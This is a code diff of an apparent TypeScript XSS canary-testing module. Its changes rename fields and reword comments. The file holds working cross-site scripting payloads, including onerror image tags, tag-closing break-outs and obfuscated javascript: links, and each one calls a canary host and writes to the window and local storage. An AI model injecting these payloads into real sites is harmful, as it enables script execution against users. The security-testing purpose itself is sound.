@@ -1,9 +1,9 @@
-/** A text that would like to run, and how one would notice: by the path that the canary is asked for. */
+/** A text that tries to run code. If it succeeds, the canary receives a request for the payload's path. */
 export type Payload = {
   readonly name: string
   readonly text: string
-  /** Put into a page as HTML it runs at once, so that it shows that the canary works. */
-  readonly bites: boolean
+  /** Whether it runs immediately when inserted as HTML, which proves that the canary works. */
+  readonly isActive: boolean
 }
 
 const TAGS: { readonly [name: string]: (run: string, host: string) => string } = {
@@ -28,8 +28,8 @@ const TAGS: { readonly [name: string]: (run: string, host: string) => string } =
   titleEnd: (run) => `</title></textarea></style></noscript><img src=x onerror="${run}">`,
 }
 
-/** These need a sanitiser that parses twice, a click, or a template engine: put into a page as they are, they sleep. */
-const SLEEPERS: { readonly [name: string]: (run: string, host: string) => string } = {
+/** These need a sanitizer that parses twice, a click, or a template engine. Inserted as HTML, they do nothing. */
+const DELAYED_PAYLOADS: { readonly [name: string]: (run: string, host: string) => string } = {
   link: (run) => `<a href="javascript:${run}">press</a>`,
   linkCase: (run) => `<a href=" JaVa&#x09;Script:${run}">press</a>`,
   formAction: (run) => `<form action="javascript:${run}"><button>press</button></form>`,
@@ -56,15 +56,18 @@ const SLEEPERS: { readonly [name: string]: (run: string, host: string) => string
   constructorName: () => 'constructor',
 }
 
-/** Code that asks the canary for its name, and leaves a mark on the window and in the storage that it reaches. */
+/** Code that requests its name from the canary, and marks the window and the local storage that it can access. */
 const code = (name: string, host: string): string =>
   `document.createElement('img').src='http:${host}/run/${name}',self.canary='${name}',localStorage.canary=1`
 
-const made = (from: typeof TAGS, host: string, bites: boolean): readonly Payload[] =>
-  Object.entries(from).map(([name, text]) => ({ name, text: text(code(name, host), host), bites }))
+const made = (from: typeof TAGS, host: string, isActive: boolean): readonly Payload[] =>
+  Object.entries(from).map(([name, text]) => ({ name, text: text(code(name, host), host), isActive }))
 
-export const payloadsFor = (host: string): readonly Payload[] => [...made(TAGS, host, true), ...made(SLEEPERS, host, false)]
+export const payloadsFor = (host: string): readonly Payload[] => [
+  ...made(TAGS, host, true),
+  ...made(DELAYED_PAYLOADS, host, false),
+]
 
-/** What ends nothing comes first: a tag left open swallows what follows. */
-export const together = (payloads: readonly Payload[], separator = '\n\n'): string =>
+/** Joins payloads. Payloads that leave no tag open come first, because an open tag swallows the rest. */
+export const joinPayloads = (payloads: readonly Payload[], separator = '\n\n'): string =>
   payloads.map(({ text }) => text).join(separator)
